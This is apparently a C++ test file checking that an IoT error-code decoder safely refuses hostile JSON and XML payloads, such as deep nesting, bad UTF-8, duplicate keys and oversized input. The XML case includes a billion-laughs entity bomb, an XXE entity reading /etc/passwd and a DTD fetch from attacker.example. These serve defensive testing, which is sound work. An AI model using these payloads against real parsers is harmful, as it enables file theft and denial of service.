// Hostile payloads through the decode core on the embedded default config. Each has exactly
// one expected outcome (SPEC §7): one dead letter with one reason, or a counted-only status,
// never a crash, a partial set of events or an event with a made-up code. Every dead letter
// must let a consumer find the route and replay the bytes, so its fields are checked too.

#include <rapidjson/document.h>

#include <catch2/catch.hpp>
#include <cstdint>
#include <map>
#include <memory>
#include <optional>
#include <string>
#include <string_view>
#include <vector>

#include "errbridge/config/load.h"
#include "errbridge/core/decode.h"
#include "test_env.h"

using namespace errbridge;
using core::DeadLetterReason;
using Status = core::DecodeResult::Status;
using Kind = core::Publication::Kind;

namespace {

constexpr std::int64_t now_ms = 1'795'000'000'123;

const core::Decoder& decoder() {
    static const core::Decoder instance(std::make_shared<const config::LoadedConfig>(
        config::load_config_text(config::embedded_default_config(), "embedded default",
                                 errbridge::test::environment())));
    return instance;
}

// One realistic topic per default route under attack (FORMATS.md), with the route that must
// take it: a dead letter names the route, so a wrong match would be a wrong report.
const std::string alink = "/sys/a1X2/pump-7/thing/event/property/post_reply";
const std::string ota = "/ota/device/upgrade/a1X2/pump-7";
const std::string ext_error = "/ext/error/a1X2/gw-1";
const std::string upload = "/neuron/app1/modbus-tcp-1/grp-1";
const std::string write_resp = "neuron/app1/write/resp";
const std::string tylink = "tylink/dev-1/thing/property/report_response";
const std::string tuya = "bridge/tuya/openapi/dev-1/response";
const std::string oc_down = "$oc/devices/gw-1/sys/events/down";
const std::string iotedge = "bridge/huawei-iotedge/proj-1/edge-nodes/node-1/apps/response";
const std::string camera = "bridge/camera/cam-1/http/GetDeviceInfo/response";

const std::map<std::string, std::string> route_of = {
    {alink, "aliyun-4"},
    {ota, "aliyun-1"},
    {ext_error, "aliyun-2"},
    {upload, "neuron-2"},
    {write_resp, "neuron-3"},
    {tylink, "tuya-link-1"},
    {tuya, "tuya-1"},
    {oc_down, "huawei-iotedge-1"},
    {iotedge, "huawei-iotedge-2"},
    {camera, "camera-1"},
};

struct Expect {
    Status status;
    std::optional<DeadLetterReason> reason;
};
Expect dead(DeadLetterReason reason) {
    return {Status::dead_letter, reason};
}
const Expect events{Status::events, std::nullopt};
const Expect empty{Status::empty, std::nullopt};
const Expect counted_no_code{Status::no_code, std::nullopt};
const Expect success{Status::success, std::nullopt};

struct Row {
    std::string name;
    std::string topic;
    std::string payload;
    Expect expect;
};

std::string repeat(std::string_view s, std::size_t n) {
    std::string out;
    out.reserve(s.size() * n);
    for (std::size_t i = 0; i < n; ++i)
        out += s;
    return out;
}

// An Alink reply whose deepest container sits exactly at nesting `depth` (the root is 1).
std::string alink_at_depth(std::size_t depth) {
    return "{\"code\":6207,\"x\":" + repeat("[", depth - 1) + repeat("]", depth - 1) + "}";
}

// A camera reply whose deepest element sits at nesting `depth` (<config> is 1); the innermost
// one is empty (`<e/>`), which is as deep as an open element.
std::string camera_at_depth(std::size_t depth) {
    return "<config status=\"failed\" errorCode=\"1\">" + repeat("<a>", depth - 2) + "<e/>" +
           repeat("</a>", depth - 2) + "</config>";
}

std::string utf16(std::string_view ascii, bool big_endian) {
    std::string out = big_endian ? "\xFE\xFF" : "\xFF\xFE";
    for (char c : ascii) {
        if (big_endian) out += '\0';
        out += c;
        if (!big_endian) out += '\0';
    }
    return out;
}

std::string billion_laughs() {
    std::string doc = "<?xml version=\"1.0\"?>\n<!DOCTYPE config [\n<!ENTITY lol0 \"lol\">\n";
    for (int i = 1; i <= 9; ++i) {
        doc += "<!ENTITY lol" + std::to_string(i) + " \"" +
               repeat("&lol" + std::to_string(i - 1) + ";", 10) + "\">\n";
    }
    return doc + "]>\n<config status=\"failed\" errorCode=\"1\" errorDesc=\"&lol9;\"/>";
}

// Independent of the core's encoder, so a symmetric bug cannot hide.
std::string base64_decode(std::string_view text) {
    auto value = [](char c) -> int {
        if (c >= 'A' && c <= 'Z') return c - 'A';
        if (c >= 'a' && c <= 'z') return c - 'a' + 26;
        if (c >= '0' && c <= '9') return c - '0' + 52;
        if (c == '+') return 62;
        if (c == '/') return 63;
        return -1;
    };
    std::string out;
    std::uint32_t bits = 0;
    int count = 0;
    for (char c : text) {
        if (c == '=') break;
        int v = value(c);
        if (v < 0) FAIL("not base64: " << text);
        bits = (bits << 6) | static_cast<std::uint32_t>(v);
        count += 6;
        if (count >= 8) {
            count -= 8;
            out += static_cast<char>((bits >> count) & 0xFF);
        }
    }
    return out;
}

// Every publication, event or dead letter, must be UTF-8 JSON (RapidJSON validates the
// encoding, not just the syntax, with this flag).
rapidjson::Document parse_publication(const core::DecodeResult& r, const core::Publication& p) {
    std::string text(r.payload(p));
    rapidjson::Document doc;
    doc.Parse<rapidjson::kParseValidateEncodingFlag>(text.c_str(), text.size());
    INFO(text.substr(0, 400));
    REQUIRE_FALSE(doc.HasParseError());
    REQUIRE(doc.IsObject());
    return doc;
}

std::string string_at(const rapidjson::Value& object, const char* key) {
    REQUIRE(object.HasMember(key));
    REQUIRE(object[key].IsString());
    return {object[key].GetString(), object[key].GetStringLength()};
}

void check_dead_letter(const core::DecodeResult& r, const Row& row) {
    const auto& config = decoder().config().config;
    const auto raw_max = static_cast<std::size_t>(config.output.raw_max_bytes);
    REQUIRE(r.count == 1);
    const core::Publication& p = r.publications[0];
    CHECK(p.kind == Kind::dead_letter);
    CHECK(p.topic == "errors/gw-01/_invalid");
    CHECK_FALSE(r.detail.empty());

    rapidjson::Document doc = parse_publication(r, p);
    CHECK(doc.MemberCount() == 9);
    CHECK(string_at(doc, "schema") == "errbridge/1");
    REQUIRE(doc.HasMember("dead_letter"));
    CHECK(doc["dead_letter"].IsBool());
    CHECK(doc["dead_letter"].IsTrue());
    CHECK(string_at(doc, "reason") == core::to_string(*row.expect.reason));
    CHECK(string_at(doc, "route") == route_of.at(row.topic));
    CHECK(string_at(doc, "topic") == row.topic);
    CHECK(string_at(doc, "ts") == core::format_timestamp(now_ms));
    CHECK(string_at(doc, "detail") == r.detail);
    // The bytes as received (not re-encoded), cut at raw_max_bytes: a consumer can replay them.
    std::string replay = base64_decode(string_at(doc, "payload_b64"));
    CHECK(replay.size() == std::min(row.payload.size(), raw_max));
    CHECK(replay == row.payload.substr(0, raw_max));
    REQUIRE(doc.HasMember("payload_truncated"));
    REQUIRE(doc["payload_truncated"].IsBool());
    CHECK(doc["payload_truncated"].GetBool() == (row.payload.size() > raw_max));
}

void check_row(core::DecodeResult& r, const Row& row) {
    INFO(row.name << " on " << row.topic << " (" << row.payload.size() << " bytes)");
    decoder().decode(row.topic, row.payload, now_ms, r);
    REQUIRE(r.route);
    CHECK(decoder().config().config.routes[*r.route].name == route_of.at(row.topic));
    INFO("detail: " << r.detail);
    REQUIRE(r.status == row.expect.status);
    if (row.expect.reason) {
        REQUIRE(r.reason);
        CHECK(core::to_string(*r.reason) == core::to_string(*row.expect.reason));
        check_dead_letter(r, row);
        return;
    }
    CHECK_FALSE(r.reason);
    if (row.expect.status != Status::events) {
        // Counted only: success replies stay unpublished with emit_success off (the default).
        CHECK(r.count == 0);
        return;
    }
    REQUIRE(r.count >= 1);
    for (std::size_t i = 0; i < r.count; ++i) {
        const core::Publication& p = r.publications[i];
        CHECK(p.kind == Kind::error);
        rapidjson::Document doc = parse_publication(r, p);
        CHECK(string_at(doc, "kind") == "error");
        CHECK(string_at(doc, "code") == p.code);
    }
}

void check_rows(const std::vector<Row>& rows) {
    core::DecodeResult r;  // reused across rows, as the daemon does
    for (const Row& row : rows)
        check_row(r, row);
}

}  // namespace

TEST_CASE("deep nesting is refused while parsing, and the limit itself passes", "[hostile]") {
    REQUIRE(decoder().config().config.limits.max_depth == 64);
    const std::size_t deep = 10'000;
    check_rows({
        {"10,000 nested arrays", alink, repeat("[", deep) + repeat("]", deep),
         dead(DeadLetterReason::too_deep)},
        {"10,000 nested arrays, never closed", alink, repeat("[", deep),
         dead(DeadLetterReason::too_deep)},
        {"10,000 nested objects", alink,
         repeat("{\"a\":", deep) + "{\"code\":6207}" + repeat("}", deep),
         dead(DeadLetterReason::too_deep)},
        {"10,000 nested objects under a valid code", upload,
         "{\"node\":\"n\",\"errors\":{\"t\":3002},\"x\":" + repeat("{\"a\":", deep) + "1" +
             repeat("}", deep) + "}",
         dead(DeadLetterReason::too_deep)},
        {"JSON exactly at max_depth", alink, alink_at_depth(64), events},
        {"JSON one level past max_depth", alink, alink_at_depth(65),
         dead(DeadLetterReason::too_deep)},
        {"10,000 nested XML elements", camera, repeat("<a>", deep) + repeat("</a>", deep),
         dead(DeadLetterReason::too_deep)},
        {"10,000 nested XML elements under <config>, never closed", camera,
         "<config status=\"failed\" errorCode=\"1\">" + repeat("<a>", deep),
         dead(DeadLetterReason::too_deep)},
        {"XML exactly at max_depth", camera, camera_at_depth(64), events},
        {"XML one level past max_depth (an empty element)", camera, camera_at_depth(65),
         dead(DeadLetterReason::too_deep)},
    });
}

TEST_CASE("XML entities and DOCTYPEs are refused before parsing", "[hostile]") {
    check_rows({
        {"billion laughs", camera, billion_laughs(), dead(DeadLetterReason::doctype)},
        {"external entity", camera,
         "<?xml version=\"1.0\"?>\n<!DOCTYPE config [<!ENTITY xxe SYSTEM "
         "\"file:///etc/passwd\">]>\n<config status=\"failed\" errorCode=\"1\" "
         "errorDesc=\"&xxe;\"/>",
         dead(DeadLetterReason::doctype)},
        {"parameter entity fetching a DTD", camera,
         "<!DOCTYPE config [<!ENTITY % dtd SYSTEM \"http://attacker.example/x.dtd\"> %dtd;]>"
         "<config errorCode=\"1\"/>",
         dead(DeadLetterReason::doctype)},
        {"DOCTYPE without entities", camera,
         "<?xml version=\"1.0\"?>\n<!DOCTYPE config>\n<config status=\"failed\" "
         "errorCode=\"1\"/>",
         dead(DeadLetterReason::doctype)},
        {"DOCTYPE before 10,000 nested elements", camera,
         "<!DOCTYPE config>" + repeat("<a>", 10'000), dead(DeadLetterReason::doctype)},
    });
}

TEST_CASE("bytes that are not UTF-8 text are refused before parsing", "[hostile]") {
    check_rows({
        {"overlong '/' (C0 AF)", alink, "{\"code\":6207,\"message\":\"\xC0\xAF\"}",
         dead(DeadLetterReason::bad_utf8)},
        {"overlong 3-byte (E0 80 AF)", alink, "{\"code\":6207,\"message\":\"\xE0\x80\xAF\"}",
         dead(DeadLetterReason::bad_utf8)},
        {"UTF-16 surrogate (ED A0 80)", alink, "{\"code\":6207,\"message\":\"\xED\xA0\x80\"}",
         dead(DeadLetterReason::bad_utf8)},
        {"beyond U+10FFFF (F4 90 80 80)", alink, "{\"code\":6207,\"message\":\"\xF4\x90\x80\x80\"}",
         dead(DeadLetterReason::bad_utf8)},
        {"truncated sequence mid-string (E2 82)", alink, "{\"code\":6207,\"message\":\"\xE2\x82\"}",
         dead(DeadLetterReason::bad_utf8)},
        {"truncated sequence at the end (E2 82)", alink, "{\"code\":6207}\xE2\x82",
         dead(DeadLetterReason::bad_utf8)},
        {"0xFF", alink, "{\"code\":6207,\"message\":\"\xFF\"}", dead(DeadLetterReason::bad_utf8)},
        {"NUL inside a JSON string", alink,
         std::string("{\"code\":6207,\"message\":\"a") + '\0' + "b\"}",
         dead(DeadLetterReason::bad_utf8)},
        {"NUL inside an XML attribute", camera,
         std::string("<config status=\"failed\" errorCode=\"1") + '\0' + "\"/>",
         dead(DeadLetterReason::bad_utf8)},
        {"UTF-16LE with BOM", alink, utf16("{\"code\":6207}", false),
         dead(DeadLetterReason::bad_utf8)},
        {"UTF-16BE with BOM", alink, utf16("{\"code\":6207}", true),
         dead(DeadLetterReason::bad_utf8)},
        {"UTF-16LE XML with BOM", camera, utf16("<config errorCode=\"1\"/>", false),
         dead(DeadLetterReason::bad_utf8)},
        {"invalid UTF-8 before a DOCTYPE", camera, "\xFF<!DOCTYPE config><config/>",
         dead(DeadLetterReason::bad_utf8)},
        // A UTF-8 BOM is still UTF-8 text; both parsers skip it.
        {"UTF-8 BOM (JSON)", alink, "\xEF\xBB\xBF{\"code\":6207}", events},
        {"UTF-8 BOM (XML)", camera, "\xEF\xBB\xBF<config status=\"failed\" errorCode=\"1\"/>",
         events},
    });
}

TEST_CASE("oversized payloads are refused first, whatever they contain", "[hostile]") {
    const auto limit = static_cast<std::size_t>(decoder().config().config.limits.max_payload_bytes);
    REQUIRE(limit == 262'144);
    auto alink_of_size = [](std::size_t size) {
        std::string head = "{\"code\":6207,\"message\":\"";
        return head + std::string(size - head.size() - 2, 'x') + "\"}";
    };
    check_rows({
        {"2 MiB", alink, alink_of_size(2 * 1024 * 1024), dead(DeadLetterReason::too_large)},
        {"2 MiB of XML", camera,
         "<config status=\"failed\" errorCode=\"1\">" + std::string(2 * 1024 * 1024, 'x') +
             "</config>",
         dead(DeadLetterReason::too_large)},
        {"exactly max_payload_bytes", alink, alink_of_size(limit), events},
        {"max_payload_bytes + 1", alink, alink_of_size(limit + 1),
         dead(DeadLetterReason::too_large)},
        {"oversized and not UTF-8", alink, std::string(limit + 1, '\xFF'),
         dead(DeadLetterReason::too_large)},
        {"oversized and deep", alink, repeat("[", limit + 1), dead(DeadLetterReason::too_large)},
    });
}

TEST_CASE("syntax errors, NaN and Infinity are not JSON; truncated XML is not XML", "[hostile]") {
    check_rows({
        {"NaN", alink, "{\"code\":NaN}", dead(DeadLetterReason::not_json)},
        {"Infinity", alink, "{\"code\":Infinity}", dead(DeadLetterReason::not_json)},
        {"-Infinity", alink, "{\"code\":-Infinity}", dead(DeadLetterReason::not_json)},
        {"NaN off the code path", upload,
         "{\"node\": \"n\", \"values\": {\"t0\": NaN}, \"errors\": {\"t1\": 3002}}",
         dead(DeadLetterReason::not_json)},
        {"truncated number", alink, "{\"code\":62", dead(DeadLetterReason::not_json)},
        {"truncated after a member", alink, "{\"code\":6207,\"data\":{}",
         dead(DeadLetterReason::not_json)},
        {"truncated key", alink, "{\"co", dead(DeadLetterReason::not_json)},
        {"lone brace", alink, "{", dead(DeadLetterReason::not_json)},
        {"whitespace only", alink, " \n", dead(DeadLetterReason::not_json)},
        {"trailing garbage", alink, "{\"code\":6207}x", dead(DeadLetterReason::not_json)},
        {"two documents", alink, "{\"code\":6207}{\"code\":6207}",
         dead(DeadLetterReason::not_json)},
        // FORMATS.md §2: Neuron's doc examples carry trailing commas.
        {"trailing comma (Neuron docs)", upload, "{\"node\": \"n\", \"errors\": {\"t\": 3002},}",
         dead(DeadLetterReason::not_json)},
        // FORMATS.md §5: the IoTEdge page's example has a full-width comma (U+FF0C).
        {"full-width comma (IoTEdge docs)", iotedge,
         "{\"errorCode\": \"IoTEdge.03004005\"\xEF\xBC\x8C \"errorMsg\": \"The NA name is already "
         "used.\"}",
         dead(DeadLetterReason::not_json)},
        // FORMATS.md §3: the device SDK's failed config push, without braces.
        {"Alink SDK config push without braces", alink, "\"id\":123,\"code\":\"400\",\"data\":{}",
         dead(DeadLetterReason::not_json)},
        {"truncated XML start tag", camera, "<config status=\"failed\" errorCode=\"1\"",
         dead(DeadLetterReason::not_xml)},
        {"truncated XML attribute", camera, "<config status=\"failed\" errorCode=\"1",
         dead(DeadLetterReason::not_xml)},
        {"XML never closed", camera, "<config status=\"failed\" errorCode=\"1\">",
         dead(DeadLetterReason::not_xml)},
        {"XML declaration only", camera, "<?xml version=\"1.0\" encoding=\"utf-8\" ?>",
         dead(DeadLetterReason::not_xml)},
        {"XML mismatched end tag", camera, "<config errorCode=\"1\"></conf>",
         dead(DeadLetterReason::not_xml)},
        {"JSON on the camera route", camera, "{\"errorCode\":1}", dead(DeadLetterReason::not_xml)},
        // pugixml accepts these; XML does not, and the second root would go unseen.
        {"two XML roots", camera, "<config errorCode=\"1\"/><config errorCode=\"2\"/>",
         dead(DeadLetterReason::not_xml)},
        {"text after the XML root", camera, "<config status=\"failed\" errorCode=\"1\"/>junk",
         dead(DeadLetterReason::not_xml)},
        {"text before the XML root", camera, "junk<config status=\"failed\" errorCode=\"1\"/>",
         dead(DeadLetterReason::not_xml)},
    });
}

TEST_CASE("a root that is not an object (JSON) or not <config> (XML) is not_object", "[hostile]") {
    check_rows({
        {"root array", alink, "[{\"code\":6207}]", dead(DeadLetterReason::not_object)},
        {"root string", alink, "\"6207\"", dead(DeadLetterReason::not_object)},
        {"root number", alink, "6207", dead(DeadLetterReason::not_object)},
        {"root null", upload, "null", dead(DeadLetterReason::not_object)},
        {"root true", tuya, "true", dead(DeadLetterReason::not_object)},
        {"root array holding duplicates", alink, "[{\"code\":1,\"code\":2}]",
         dead(DeadLetterReason::not_object)},
        {"XML root not <config>", camera, "<response status=\"failed\" errorCode=\"1\"/>",
         dead(DeadLetterReason::not_object)},
        {"XML root <configuration>", camera, "<configuration errorCode=\"1\"/>",
         dead(DeadLetterReason::not_object)},
    });
}

TEST_CASE("duplicate keys on the path to a code are refused; elsewhere they are harmless",
          "[hostile]") {
    check_rows({
        {"code twice", alink, "{\"code\":1,\"code\":2}", dead(DeadLetterReason::duplicate_key)},
        {"code twice, same value", alink, "{\"code\":6207,\"code\":6207}",
         dead(DeadLetterReason::duplicate_key)},
        {"code twice, one of them impossible", alink, "{\"code\":true,\"code\":6207}",
         dead(DeadLetterReason::duplicate_key)},
        {"Neuron tag twice in errors", upload,
         "{\"node\": \"modbus-tcp-1\", \"group\": \"grp-1\", \"timestamp\": 1717000000123, "
         "\"values\": {}, \"errors\": {\"tag1\": 3002, \"tag1\": 3015}, \"metas\": {}}",
         dead(DeadLetterReason::duplicate_key)},
        {"Neuron errors twice", upload, "{\"errors\": {\"a\": 3002}, \"errors\": {\"b\": 3015}}",
         dead(DeadLetterReason::duplicate_key)},
        {"Neuron error twice in a tag", write_resp,
         "{\"uuid\": \"7b0f\", \"tags\": [{\"group\": \"g\", \"name\": \"tag1\", \"error\": 0, "
         "\"error\": 3001}]}",
         dead(DeadLetterReason::duplicate_key)},
        {"Neuron error twice at the top", write_resp,
         "{\"uuid\": \"cd32\", \"error\": 0, "
         "\"error\": 3023}",
         dead(DeadLetterReason::duplicate_key)},
        {"Huawei error_code twice", iotedge,
         "{\"error_code\":\"IoTEdge.02100305\",\"error_code\":\"IoTEdge.00000012\"}",
         dead(DeadLetterReason::duplicate_key)},
        {"Huawei failed_devices twice", oc_down,
         "{\"services\":[{\"paras\":{\"failed_devices\":[],\"failed_devices\":[{\"device_id\":"
         "\"d1\",\"error_code\":\"IOTDA.013005\"}]}}]}",
         dead(DeadLetterReason::duplicate_key)},
        {"camera errorCode twice", camera,
         "<config status=\"failed\" errorCode=\"1\" errorCode=\"5\"/>",
         dead(DeadLetterReason::duplicate_key)},
        {"camera errorCode twice by local name", camera,
         "<ipc:config xmlns:ipc=\"http://www.ipc.com/ver10\" status=\"failed\" "
         "ipc:errorCode=\"1\" errorCode=\"5\"/>",
         dead(DeadLetterReason::duplicate_key)},
        {"duplicate off the path (Alink version)", alink,
         "{\"code\":6207,\"data\":{},\"id\":\"123\",\"version\":\"1.0\",\"version\":\"1.1\"}",
         events},
        {"duplicate off the path (Neuron values)", upload,
         "{\"node\": \"n\", \"values\": {\"t0\": 1, \"t0\": 2}, \"errors\": {\"t1\": 3002}}",
         events},
        {"duplicate off the path (nested data)", ext_error,
         "{\"id\":\"456\",\"code\":520,\"message\":\"device session error\",\"data\":{"
         "\"productKey\":\"a1Sub\",\"deviceName\":\"s-1\",\"x\":1,\"x\":2}}",
         events},
    });
}

TEST_CASE("codes of an impossible type are bad_code, never wrapped into a catalog hit",
          "[hostile]") {
    const std::vector<std::string> impossible = {
        "true",
        "false",
        "null",
        "6207.5",
        "1e3",
        "6207.0",
        "-0.0",
        "{}",
        "{\"code\":6207}",
        "[]",
        "[6207]",
        "99999999999999999999",
        "9223372036854775808",
        "-9223372036854775809",
        "\"9223372036854775808\"",
        "\"-9223372036854775809\"",
        "\"\"",
        "\"abc\"",
        "\" 6207\"",
        "\"6207 \"",
        "\"+6207\"",
        "\"0x183F\"",
        "\"1,000\"",
        "\"6207.0\"",
    };
    std::vector<Row> rows;
    for (const auto& code : impossible) {
        rows.push_back({"Alink code " + code, alink, "{\"code\":" + code + ",\"id\":\"1\"}",
                        dead(DeadLetterReason::bad_code)});
    }
    rows.insert(
        rows.end(),
        {
            {"OTA code not numeric", ota, "{\"code\":\"abc\",\"id\":1757232295633}",
             dead(DeadLetterReason::bad_code)},
            {"Neuron tag code a string", upload, "{\"node\": \"n\", \"errors\": {\"t\": \"x\"}}",
             dead(DeadLetterReason::bad_code)},
            // One impossible code spoils the document: no partial events next to the dead letter.
            {"Neuron one good, one null", upload,
             "{\"node\": \"n\", \"errors\": {\"a\": 3002, \"b\": null}}",
             dead(DeadLetterReason::bad_code)},
            {"Neuron tags error a fraction", write_resp,
             "{\"uuid\": \"u\", \"tags\": [{\"name\": \"t\", \"error\": 1.5}]}",
             dead(DeadLetterReason::bad_code)},
            {"TuyaLink code true", tylink, "{\"msgId\":\"m\",\"time\":1,\"code\":true}",
             dead(DeadLetterReason::bad_code)},
            {"Tuya code wins over the failure flag", tuya,
             "{\"code\":\"x\",\"msg\":\"m\",\"success\":false}", dead(DeadLetterReason::bad_code)},
            {"Huawei code a number", iotedge, "{\"error_code\":2100305,\"error_msg\":\"m\"}",
             dead(DeadLetterReason::bad_code)},
            {"Huawei code empty", iotedge, "{\"error_code\":\"\"}",
             dead(DeadLetterReason::bad_code)},
            {"Huawei code null", iotedge, "{\"errorCode\":null}", dead(DeadLetterReason::bad_code)},
            {"camera errorCode abc", camera, "<config status=\"failed\" errorCode=\"abc\"/>",
             dead(DeadLetterReason::bad_code)},
            {"camera errorCode empty", camera, "<config status=\"failed\" errorCode=\"\"/>",
             dead(DeadLetterReason::bad_code)},
            {"camera errorCode a fraction", camera, "<config status=\"failed\" errorCode=\"1.5\"/>",
             dead(DeadLetterReason::bad_code)},
            {"camera errorCode beyond int64", camera,
             "<config status=\"failed\" errorCode=\"99999999999999999999\"/>",
             dead(DeadLetterReason::bad_code)},
        });
    check_rows(rows);
}

TEST_CASE("failure flags without a code, empty payloads and code-less payloads", "[hostile]") {
    check_rows({
        {"Tuya success:false without code", tuya, "{\"success\":false,\"t\":1721545820202}",
         dead(DeadLetterReason::no_code)},
        {"camera status failed without errorCode", camera, "<config status=\"failed\"/>",
         dead(DeadLetterReason::no_code)},
        {"empty on an Alink topic", alink, "", empty},
        {"empty on the camera topic", camera, "", empty},
        {"empty on the Huawei $oc topic", oc_down, "", empty},
        {"Alink request sharing the topic", alink, "{\"id\":\"1\",\"params\":{}}", counted_no_code},
        {"Neuron driver status", upload,
         "{\"timestamp\": 1658134132237, \"states\": [{\"node\": \"modbus-tcp\", \"link\": 1, "
         "\"running\": 3}]}",
         counted_no_code},
        {"Alink success", alink,
         "{\"code\":200,\"data\":{},\"id\":\"123\",\"message\":\"success\",\"method\":\"thing."
         "event.property.post\",\"version\":\"1.0\"}",
         success},
        {"Tuya success", tuya, "{\"result\":true,\"success\":true,\"t\":1561456817168}", success},
        {"camera success", camera,
         "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<config status=\"success\"/>", success},
    });
}

TEST_CASE("dead letters carry at most raw_max_bytes of the payload, flagged", "[hostile]") {
    const auto raw_max = static_cast<std::size_t>(decoder().config().config.output.raw_max_bytes);
    REQUIRE(raw_max == 4096);
    check_rows({
        {"raw_max_bytes exactly", alink, "{" + std::string(raw_max - 1, ' '),
         dead(DeadLetterReason::not_json)},
        {"raw_max_bytes + 1", alink, "{" + std::string(raw_max, ' '),
         dead(DeadLetterReason::not_json)},
        // Cut inside a multi-byte character: base64 carries the bytes, not code points.
        {"cut inside a character", alink, "[" + std::string(raw_max - 3, ' ') + "\"\xE6\xB8\xA9\"]",
         dead(DeadLetterReason::not_object)},
        {"binary", alink, std::string("\x00\x01\x02\xFE\xFF", 5) + std::string(5000, '\x80'),
         dead(DeadLetterReason::bad_utf8)},
    });
}

TEST_CASE("unknown but well-formed codes are events, never dead letters", "[hostile]") {
    struct Unknown {
        std::string topic;
        std::string payload;
        std::string code;
    };
    const Unknown rows[] = {
        // FORMATS.md §3's envelope with a code no catalog has.
        {alink,
         "{\"code\":6999,\"data\":{},\"id\":\"123\",\"message\":\"not documented\","
         "\"version\":\"1.0\"}",
         "6999"},
        {alink, "{\"code\":9223372036854775807}", "9223372036854775807"},
        {alink, "{\"code\":-9223372036854775808}", "-9223372036854775808"},
        {alink, "{\"code\":\"-42\"}", "-42"},
        {ota, "{\"code\":\"4242\",\"id\":1757232295633,\"message\":\"x\"}", "4242"},
        {upload, "{\"node\": \"n\", \"group\": \"g\", \"errors\": {\"t\": 99999}}", "99999"},
        {tylink, "{\"msgId\":\"m\",\"time\":1626197189640,\"code\":4242}", "4242"},
        {tuya, "{\"code\":77777,\"msg\":\"new\",\"success\":false}", "77777"},
        {iotedge, "{\"error_msg\":\"The throttling threshold\",\"error_code\":\"APIGW.0308\"}",
         "APIGW.0308"},
        {oc_down,
         "{\"services\":[{\"service_id\":\"$sub_device_manager\",\"event_type\":\"add_sub_device_"
         "response\",\"paras\":{\"failed_devices\":[{\"device_id\":\"d1\",\"error_code\":"
         "\"IOTDA.013005\"}]}}]}",
         "IOTDA.013005"},
        {camera, "<config status=\"failed\" errorCode=\"999\" errorDesc=\"new\"/>", "999"},
    };
    core::DecodeResult r;
    for (const auto& row : rows) {
        INFO(row.topic << ": " << row.payload);
        decoder().decode(row.topic, row.payload, now_ms, r);
        INFO("detail: " << r.detail);
        REQUIRE(r.status == Status::events);
        REQUIRE(r.count == 1);
        CHECK(r.unknown_codes == 1);
        const core::Publication& p = r.publications[0];
        CHECK(p.kind == Kind::error);
        CHECK_FALSE(p.known);
        CHECK(p.code == row.code);
        rapidjson::Document doc = parse_publication(r, p);
        CHECK(string_at(doc, "code") == row.code);
        CHECK(string_at(doc, "category") == "unknown");
        REQUIRE(doc.HasMember("known"));
        CHECK(doc["known"].IsFalse());
    }
}

TEST_CASE("fan-out is bounded: more codes than max_codes_per_payload is one dead letter",
          "[hostile]") {
    // 1,000 sub-devices under one Alibaba code: decoded; 1,001: refused, not 1,001 events.
    auto sub_devices = [](std::size_t n) {
        std::string data;
        for (std::size_t i = 0; i < n; ++i) {
            data += (i ? "," : "") + std::string(R"({"productKey":"p","deviceName":"d)") +
                    std::to_string(i) + "\"}";
        }
        return R"({"id":"1","code":520,"message":"x","data":[)" + data + "]}";
    };
    core::DecodeResult r;
    decoder().decode(ext_error, sub_devices(core::max_codes_per_payload), 0, r);
    CHECK(r.status == Status::events);
    CHECK(r.count == core::max_codes_per_payload);
    decoder().decode(ext_error, sub_devices(core::max_codes_per_payload + 1), 0, r);
    CHECK(r.status == Status::dead_letter);
    CHECK(r.reason == DeadLetterReason::too_large);
    CHECK(r.count == 1);
    CHECK(r.detail == "1001 error codes in one payload; at most 1000 are decoded");

    // A Neuron upload whose errors map holds 5,000 tags.
    std::string errors;
    for (int i = 0; i < 5000; ++i)
        errors += (i ? "," : "") + ("\"t" + std::to_string(i) + "\":3002");
    decoder().decode(upload, R"({"node":"n","group":"g","errors":{)" + errors + "}}", 0, r);
    CHECK(r.reason == DeadLetterReason::too_large);
    CHECK(r.count == 1);
}
